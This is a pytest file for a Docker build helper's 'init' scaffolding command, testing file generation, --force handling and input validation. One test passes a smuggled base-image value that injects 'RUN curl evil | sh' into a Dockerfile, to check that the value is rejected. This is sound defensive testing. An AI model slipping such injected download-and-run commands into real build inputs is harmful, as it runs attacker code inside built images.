"""`init` scaffolds a project and never overwrites without --force."""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest
from docker.utils.build import PatternMatcher

from securebuild_tasks.settings import HELP
from tests.support.cli import run_cli, user_env


def _init(cwd: Path, *args: str) -> subprocess.CompletedProcess[str]:
    return run_cli("securebuild_tasks", cwd, "init", *args, env=user_env())


def test_init_writes_a_working_setup(tmp_path: Path) -> None:
    """Dockerfile, tasks.py, .env.example and .dockerignore, filled in from the flags."""
    done = _init(tmp_path, "--python", "3.11", "--entry", "shop.main")
    assert done.returncode == 0, done.stderr
    dockerfile = (tmp_path / "Dockerfile").read_text()
    assert "ARG BASE_IMAGE=python:3.11-slim" in dockerfile
    assert 'CMD ["python", "-m", "shop.main"]' in dockerfile
    assert "--mount=type=ssh,required=true" in dockerfile
    assert "securebuild_tasks.add_to(ns)" in (tmp_path / "tasks.py").read_text()
    example = (tmp_path / ".env.example").read_text()
    for name in HELP:
        shown = f"# SECUREBUILD_{name.upper()}=" in example
        assert shown == (name != "env_file"), name  # a .env cannot move itself
    patterns = [
        line
        for line in (tmp_path / ".dockerignore").read_text().splitlines()
        if line and not line.startswith("#")
    ]
    matcher = PatternMatcher(patterns)
    for secret in (".env", ".env.prod", "id_ed25519", "deploy.pem", "pip.conf", ".netrc"):
        assert matcher.matches(secret), secret
    for kept in (".env.example", "vendor/python/manifest.json", "app/__main__.py"):
        assert not matcher.matches(kept), kept


def test_init_keeps_existing_files_unless_forced(tmp_path: Path) -> None:
    """Existing files stay as they are; --force overwrites all but tasks.py;
    .dockerignore only grows."""
    (tmp_path / "Dockerfile").write_text("FROM mine\n")
    (tmp_path / "tasks.py").write_text("# my tasks\n")
    (tmp_path / ".dockerignore").write_text("node_modules\n.env\n")
    done = _init(tmp_path)
    assert done.returncode == 0, done.stderr
    assert (tmp_path / "Dockerfile").read_text() == "FROM mine\n"
    assert (tmp_path / "tasks.py").read_text() == "# my tasks\n"
    assert "kept Dockerfile" in done.stderr
    assert "securebuild_tasks.add_to(ns)" in done.stderr
    ignore = (tmp_path / ".dockerignore").read_text().splitlines()
    assert ignore[:2] == ["node_modules", ".env"]
    assert ignore.count(".env") == 1
    assert "*.pem" in ignore
    again = _init(tmp_path)
    assert (tmp_path / ".dockerignore").read_text().splitlines() == ignore
    assert "kept .dockerignore" in again.stderr

    forced = _init(tmp_path, "--force")
    assert forced.returncode == 0
    assert (tmp_path / "tasks.py").read_text() == "# my tasks\n"  # never, even forced
    assert "ARG BASE_IMAGE=python:3.12-slim" in (tmp_path / "Dockerfile").read_text()
    assert "overwritten Dockerfile" in forced.stderr


def test_init_bad_input(tmp_path: Path) -> None:
    """A bad --entry, --python or --base-image is one line, and nothing is written."""
    done = _init(tmp_path, "--entry", "not a module")
    assert done.returncode == 2
    assert done.stderr.startswith("securebuild: error: --entry")
    assert list(tmp_path.iterdir()) == []
    for image in ("python 3.12", "python:3.12\nRUN curl evil | sh", "Python:3.12"):
        done = _init(tmp_path, "--base-image", image)
        assert done.returncode == 2
        assert done.stderr.startswith("securebuild: error: --base-image")
        assert "Traceback" not in done.stderr
        assert list(tmp_path.iterdir()) == []
    # A trailing newline, or digits of another script, would split or break a line.
    for flag, value in (
        ("--python", "3.12\n"),
        ("--python", "3.\u0661\u0662"),
        ("--entry", "app\n"),
    ):
        done = _init(tmp_path, flag, value)
        assert done.returncode == 2, (flag, value, done.stderr)
        assert done.stderr.startswith(f"securebuild: error: {flag}")
        assert list(tmp_path.iterdir()) == []


def test_init_refuses_what_it_cannot_write_before_writing_anything(tmp_path: Path) -> None:
    """A folder named Dockerfile (even with --force), or a .dockerignore that is not
    UTF-8: one line, and no file written or left half-made."""
    (tmp_path / "Dockerfile").mkdir()
    done = _init(tmp_path, "--force")
    assert done.returncode == 2, done.stderr
    assert "Traceback" not in done.stderr
    assert "Dockerfile is not a file" in done.stderr.strip().splitlines()[-1]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["Dockerfile"]

    (tmp_path / "Dockerfile").rmdir()
    (tmp_path / ".dockerignore").write_bytes(b"caf\xe9\n")
    done = _init(tmp_path)
    assert done.returncode == 2, done.stderr
    assert "Traceback" not in done.stderr
    assert ".dockerignore is not UTF-8 text" in done.stderr
    assert sorted(p.name for p in tmp_path.iterdir()) == [".dockerignore"]


@pytest.mark.parametrize("has_ns", [False, True])
def test_the_tasks_py_hint_works_as_printed(tmp_path: Path, has_ns: bool) -> None:
    """The lines init prints for a tasks.py it keeps, appended as printed, give the
    project's own tasks and ours side by side, with or without an ns of its own."""
    own = "from invoke import task\n\n@task\ndef test(c):\n    print('own test')\n"
    if has_ns:
        own += "\nfrom invoke import Collection\nns = Collection(test)\n"
    (tmp_path / "tasks.py").write_text(own)
    done = _init(tmp_path)
    assert done.returncode == 0, done.stderr
    hint = done.stderr.split("add to the end of your tasks.py:\n", 1)[1]
    lines = [line[4:] for line in hint.splitlines() if line.startswith("    ")]
    assert ("ns = Collection.from_module" in hint) != has_ns
    (tmp_path / "tasks.py").write_text(own + "\n".join(lines) + "\n")
    listed = run_cli("invoke", tmp_path, "--list", env=user_env())
    assert listed.returncode == 0, listed.stderr
    names = {line.split()[0] for line in listed.stdout.splitlines()[1:] if line.strip()}
    assert {"test", "build-image", "lock", "clean"} <= names
    assert run_cli("invoke", tmp_path, "test", env=user_env()).stdout.strip() == "own test"


def test_init_keeps_a_dangling_link_and_survives_a_folder_in_its_way(tmp_path: Path) -> None:
    """A Dockerfile that is a link to nowhere is the user's, kept without --force;
    a folder where init writes its temporary file is one line, not a traceback."""
    (tmp_path / "Dockerfile").symlink_to(tmp_path / "elsewhere" / "Dockerfile")
    done = _init(tmp_path)
    assert done.returncode == 0, done.stderr
    assert "kept Dockerfile" in done.stderr
    assert (tmp_path / "Dockerfile").is_symlink()

    other = tmp_path / "other"
    other.mkdir()
    (other / ".Dockerfile.securebuild-tmp").mkdir()
    blocked = _init(other)
    assert blocked.returncode != 0
    assert "Traceback" not in blocked.stderr
    assert "cannot write" in blocked.stderr.strip().splitlines()[-1]
    assert (other / ".Dockerfile.securebuild-tmp").is_dir()


def test_init_adds_its_lines_to_the_ignore_file_buildkit_reads(tmp_path: Path) -> None:
    """A .dockerignore that links to a shared file gains the lines in that file,
    with its own line ends, and stays a link; with a Dockerfile.dockerignore,
    which BuildKit reads instead, that one gains them and no .dockerignore is made."""
    shared = tmp_path / "shared.dockerignore"
    shared.write_bytes(b"node_modules\r\n")
    project = tmp_path / "project"
    project.mkdir()
    (project / ".dockerignore").symlink_to(shared)
    done = _init(project)
    assert done.returncode == 0, done.stderr
    assert (project / ".dockerignore").is_symlink()
    data = shared.read_bytes()
    assert data.startswith(b"node_modules\r\n")
    assert b".env\r\n" in data
    assert b"\n" not in data.replace(b"\r\n", b"")

    other = tmp_path / "other"
    other.mkdir()
    (other / "Dockerfile.dockerignore").write_text("dist\n")
    done = _init(other)
    assert done.returncode == 0, done.stderr
    assert ".env" in (other / "Dockerfile.dockerignore").read_text().splitlines()
    assert not (other / ".dockerignore").exists()


def test_init_keeps_a_tasks_package_and_its_tasks(tmp_path: Path) -> None:
    """A tasks/ package is what `inv` loads as "tasks": init writes no tasks.py to
    hide it, and the hint is for its __init__.py."""
    package = tmp_path / "tasks"
    package.mkdir()
    (package / "__init__.py").write_text(
        "from invoke import Collection, task\n\n@task\ndef hi(c):\n    print('hi')\n\n"
        "ns = Collection(hi)\n"
    )
    done = _init(tmp_path)
    assert done.returncode == 0, done.stderr
    assert not (tmp_path / "tasks.py").exists()
    assert "securebuild: kept tasks/__init__.py" in done.stderr
    assert "add to the end of your __init__.py:" in done.stderr
    assert run_cli("invoke", tmp_path, "hi", env=user_env()).stdout.strip() == "hi"


def test_inv_init_from_a_subfolder_scaffolds_the_project(tmp_path: Path) -> None:
    """`inv init` run in a subfolder writes where inv found the tasks.py, and says
    nothing about adding lines a tasks.py that uses this package already has."""
    (tmp_path / "tasks.py").write_text(
        "import securebuild_tasks\nfrom invoke import Collection, task\n\n"
        "@task\ndef hello(c):\n    print('hello')\n\n"
        "ns = Collection(hello)\nsecurebuild_tasks.add_to(ns)\n"
    )
    (tmp_path / "src").mkdir()
    done = run_cli("invoke", tmp_path / "src", "init", env=user_env())
    assert done.returncode == 0, done.stderr
    assert sorted(p.name for p in (tmp_path / "src").iterdir()) == []
    assert (tmp_path / "Dockerfile").is_file()
    assert "securebuild: kept tasks.py" in done.stderr
    assert "add to the end" not in done.stderr
    listed = run_cli("invoke", tmp_path / "src", "hello", env=user_env())
    assert listed.stdout.strip() == "hello"
